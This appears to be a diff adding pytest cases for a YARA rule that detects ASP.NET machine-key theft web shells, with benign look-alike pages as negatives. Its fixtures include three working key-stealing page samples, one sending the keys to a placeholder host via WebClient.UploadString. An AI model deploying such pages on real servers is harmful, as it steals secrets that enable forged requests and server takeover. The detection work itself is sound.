@@ -134,3 +134,87 @@ def test_rule_needs_a_server_page(tmp_path: Path, params: content.ContentParams)
     shell = SHELLS[0][2]
     log = "#Fields: date time cs-method cs-uri-stem\n2026-12-06 01:00:00 POST /up.aspx\n" + shell
     assert RULE not in yara_rules(tmp_path, "u_ex261206.log", log, params)
+
+
+# --- machine-key theft (third batch of the fifth collection: the two first-sight misses) -------------
+# Pages that read the ASP.NET machine keys and hand them over (ToolShell-style). Written for these
+# tests: they print or send placeholder text to example.invalid and are never run.
+KEY_RULE = "EXT_WEBSHELL_MachineKey_Theft"
+
+KEY_SHELLS: list[tuple[str, str, str]] = [
+    (
+        "reflection-getter-to-response",
+        ".aspx",
+        '<script runat="server" language="c#">\n'
+        "public void Page_Load() {\n"
+        '    var t = typeof(System.Web.HttpContext).Assembly.GetType("System.Web.Configuration.MachineKeySection");\n'
+        '    var m = t.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static | '
+        "System.Reflection.BindingFlags.NonPublic);\n"
+        "    var c = (System.Web.Configuration.MachineKeySection)m.Invoke(null, null);\n"
+        '    Response.Write(c.ValidationKey + "|" + c.DecryptionKey);\n}\n</script>',
+    ),
+    (
+        "config-section-sent-out",
+        ".aspx",
+        "<% var s = (System.Web.Configuration.MachineKeySection)System.Web.Configuration.WebConfigurationManager"
+        '.GetSection("system.web/machineKey");\n'
+        '   string v = s.ValidationKey + ";" + s.DecryptionKey;\n'
+        '   new System.Net.WebClient().UploadString("http://example.invalid/k", v); %>',
+    ),
+    (
+        "vb-keys-in-expression",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n'
+        '<% Dim k As MachineKeySection = CType(WebConfigurationManager.GetSection("system.web/machineKey"), '
+        "MachineKeySection) %>\n<%= k.ValidationKey %>/<%= k.DecryptionKey %>",
+    ),
+]
+
+KEY_BENIGN: list[tuple[str, str, str]] = [
+    (
+        "autogenerate-check",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        "    var mk = (System.Web.Configuration.MachineKeySection)System.Web.Configuration.WebConfigurationManager"
+        '.GetSection("system.web/machineKey");\n'
+        '    if (mk.ValidationKey.Contains("AutoGenerate")) Response.Write("Set fixed machine keys first.");\n'
+        "}\n</script>",
+    ),
+    (
+        "key-generator-page",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "string Hex(int n) { var b = new byte[n];\n"
+        "    System.Security.Cryptography.RandomNumberGenerator.Create().GetBytes(b);\n"
+        '    return System.BitConverter.ToString(b).Replace("-", ""); }\n</script>\n'
+        '<pre>&lt;machineKey validationKey="<%= Hex(64) %>" decryptionKey="<%= Hex(32) %>" /&gt;</pre>',
+    ),
+    (
+        "membership-provider-code-file",
+        ".cs",
+        "public class P : System.Web.Security.MembershipProvider {\n"
+        "    System.Web.Configuration.MachineKeySection machineKey;\n"
+        "    byte[] K() { return HexToByte(machineKey.ValidationKey + machineKey.DecryptionKey); }\n"
+        '    void Log(System.Web.HttpContext c) { c.Response.Write("ok"); }\n}',
+    ),
+]
+
+
+@pytest.mark.parametrize(("case", "ext", "page"), KEY_SHELLS, ids=[s[0] for s in KEY_SHELLS])
+def test_machine_key_theft_is_found(
+    tmp_path: Path, params: content.ContentParams, case: str, ext: str, page: str
+) -> None:
+    assert KEY_RULE in yara_rules(tmp_path, f"{case}{ext}", page, params)
+
+
+@pytest.mark.parametrize(("case", "ext", "page"), KEY_BENIGN, ids=[b[0] for b in KEY_BENIGN])
+def test_ordinary_machine_key_code_is_not_flagged(
+    tmp_path: Path, params: content.ContentParams, case: str, ext: str, page: str
+) -> None:
+    assert KEY_RULE not in yara_rules(tmp_path, f"{case}{ext}", page, params)
+
+
+def test_key_theft_rule_needs_a_server_page(tmp_path: Path, params: content.ContentParams) -> None:
+    log = "#Fields: date time cs-method cs-uri-stem\n2026-12-06 01:00:00 GET /error.aspx\n" + KEY_SHELLS[0][2]
+    assert KEY_RULE not in yara_rules(tmp_path, "u_ex261206.log", log, params)
